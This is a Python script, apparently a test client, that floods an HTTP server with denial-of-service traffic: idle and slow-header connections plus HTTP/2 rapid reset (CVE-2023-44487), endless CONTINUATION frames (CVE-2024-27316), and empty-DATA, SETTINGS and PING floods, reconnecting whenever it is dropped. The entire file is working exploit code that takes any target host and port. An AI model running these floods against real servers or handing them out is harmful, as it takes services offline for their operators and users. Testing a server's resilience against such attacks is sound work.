#!/usr/bin/env python3
"""A client that costs a server more than itself: flooder.py KIND HOST:PORT SECONDS [CONNECTIONS]

silent        connections that send nothing
slow-head     request heads of which a byte comes each second
resets        HTTP/2 requests that are cancelled at once (CVE-2023-44487)
continuation  HTTP/2 heads that never end (CVE-2024-27316)
empty         HTTP/2 frames of data without data
settings      HTTP/2 settings, each to be acknowledged
ping          HTTP/2 pings, each to be answered

Whoever is thrown out connects again. Floods of frames go on until the server has ended one of them, a minute at most: how
much they get rid of in the seconds is a matter of who else has the processors. Prints how many connections it made and how many were ended by the server.
"""

import socket
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
# :method GET, :scheme http, :path / from the static table, and an authority (RFC 7541, appendix A).
HEAD = b"\x82\x86\x84\x41\x09127.0.0.1"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


class Connection:
    """One connection and what it has yet to send."""

    def __init__(self, kind, address):
        self.kind = kind
        self.stream = 1
        self.next = 0.0
        self.socket = socket.create_connection(address, timeout=5)
        self.socket.setblocking(False)
        self.pending = b""
        if kind == "slow-head":
            self.head = b"GET /v2/ HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: " + b"y" * 10_000
        elif kind != "silent":
            self.pending = PREFACE + frame(SETTINGS, 0, 0)
            if kind == "continuation":
                self.pending += frame(HEADERS, 1, 1, HEAD)
            elif kind == "empty":
                self.pending += frame(HEADERS, 4, 1, HEAD)

    def burst(self):
        """What follows once everything has been sent."""
        if self.kind == "resets":
            parts = []
            for _ in range(50):
                parts.append(frame(HEADERS, 5, self.stream, HEAD) + frame(RST_STREAM, 0, self.stream, b"\0\0\0\x08"))
                self.stream += 2
            return b"".join(parts)
        if self.kind == "continuation":
            return frame(CONTINUATION, 0, 1, b"\x40\x03x-a\x64" + b"y" * 100) * 10
        if self.kind == "empty":
            return frame(DATA, 0, 1) * 50
        if self.kind == "settings":
            return frame(SETTINGS, 0, 0, b"\0\x04\0\x01\0\0") * 50
        if self.kind == "ping":
            return frame(PING, 0, 0, b"12345678") * 50
        if self.kind == "slow-head" and time.monotonic() >= self.next:
            self.next = time.monotonic() + 1
            byte, self.head = self.head[:1], self.head[1:]
            return byte
        return b""

    def turn(self):
        """Sends and reads what can be; false once the server has ended it."""
        try:
            if not self.pending:
                self.pending = self.burst()
            if self.pending:
                self.pending = self.pending[self.socket.send(self.pending):]
        except BlockingIOError:
            pass
        except OSError:
            return False
        try:
            return self.socket.recv(65536) != b""
        except BlockingIOError:
            return True
        except OSError:
            return False


def main():
    kind, address, seconds = sys.argv[1], sys.argv[2], float(sys.argv[3])
    count = int(sys.argv[4]) if len(sys.argv) > 4 else 8
    host, port = address.rsplit(":", 1)
    made = ended = 0
    until = time.monotonic() + seconds
    patience = time.monotonic() + (seconds if kind in ("silent", "slow-head") else max(seconds, 60))
    connections = []

    def goes_on():
        now = time.monotonic()
        return now < until or (ended == 0 and now < patience)

    while goes_on():
        while len(connections) < count and goes_on():
            try:
                connections.append(Connection(kind, (host, int(port))))
                made += 1
            except OSError:
                break
        alive = []
        for connection in connections:
            if connection.turn():
                alive.append(connection)
            else:
                ended += 1
                connection.socket.close()
        connections = alive
        # Many that hardly send need no more than a look now and then.
        time.sleep(0.2 if kind in ("silent", "slow-head") else 0.001)
    print(f"made={made} ended={ended}")


if __name__ == "__main__":
    main()
